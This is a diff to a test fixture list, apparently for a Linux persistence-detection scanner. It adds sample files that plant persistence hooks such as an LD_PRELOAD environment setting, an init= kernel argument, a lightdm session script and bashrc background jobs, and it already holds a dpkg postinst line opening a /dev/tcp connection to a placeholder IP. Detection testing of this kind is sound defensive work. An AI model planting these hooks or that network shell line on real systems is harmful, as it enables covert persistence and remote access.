@@ -33,6 +33,8 @@ FILES = [
     (b"/etc/systemd/system/a.path", b"[Path]\nPathChanged=/tmp\n", [(2, b"a.service", [])]),
     (b"/etc/systemd/system-generators/g", b"\x7fELF", [(None, b"/etc/systemd/system-generators/g", [b"/etc/systemd/system-generators/g"])]),
     (b"/var/lib/systemd/linger/bob", b"", [(None, b"bob", [])]),
+    (b"/var/lib/extensions/x.raw", b"\0", [(None, b"/var/lib/extensions/x.raw", [])]),
+    (b"/root/.config/systemd/user.conf", b"[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n", [(2, b"LD_PRELOAD=/opt/x.so", [b"/opt/x.so"])]),
     # the clock
     (b"/etc/crontab", b"# c\nPATH=/usr/bin:/tmp/.b\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot bin /opt/x\r\n", [
         (2, b"PATH=/usr/bin:/tmp/.b", [b"/tmp/.b"]), (4, b"cd / && run-parts /etc/cron.hourly", [b"/etc/cron.hourly", b"run-parts"]),
@@ -79,6 +81,10 @@ FILES = [
     (b"/var/lib/dpkg/info/x.postinst", b"#!/bin/sh\nset -e\nbash -c 'exec 3<>/dev/tcp/192.0.2.1/80'\n", [
         (None, b"/var/lib/dpkg/info/x.postinst", [b"/var/lib/dpkg/info/x.postinst"]),
         (3, b"bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'", [b"bash"])]),
+    (b"/root/.bashrc.d/x", b"nohup /opt/x &\n", [(None, b"/root/.bashrc.d/x", []), (1, b"nohup /opt/x &", [X, b"nohup"])]),
+    (b"/etc/lightdm/lightdm.conf.d/x.conf", b"[Seat:*]\nsession-setup-script=/opt/x -a\ngreeter-session=y\n", [(2, b"/opt/x -a", [X])]),
+    (b"/etc/apt/trusted.gpg.d/x.gpg", b"\x99\x02", [(None, b"/etc/apt/trusted.gpg.d/x.gpg", [])]),
+    (b"/proc/cmdline", b"root=/dev/vda1 ro init=/opt/x quiet\n", [(1, b"init=/opt/x", [X])]),
     (b"/root/.bashrc", b"alias ll='ls -l'\n[ -f ~/x ] && . ~/x\neval $(/opt/x)\nPROMPT_COMMAND='/opt/x'\ntrap /opt/x EXIT\n/opt/y\n", [
         (None, b"/root/.bashrc", []), (2, b"[ -f ~/x ] && . ~/x", [b"~/x"]), (3, b"eval $(/opt/x)", [X]),
         (4, b"PROMPT_COMMAND='/opt/x'", [X]), (5, b"trap /opt/x EXIT", [b"trap"]), (6, b"/opt/y", [b"/opt/y"])]),
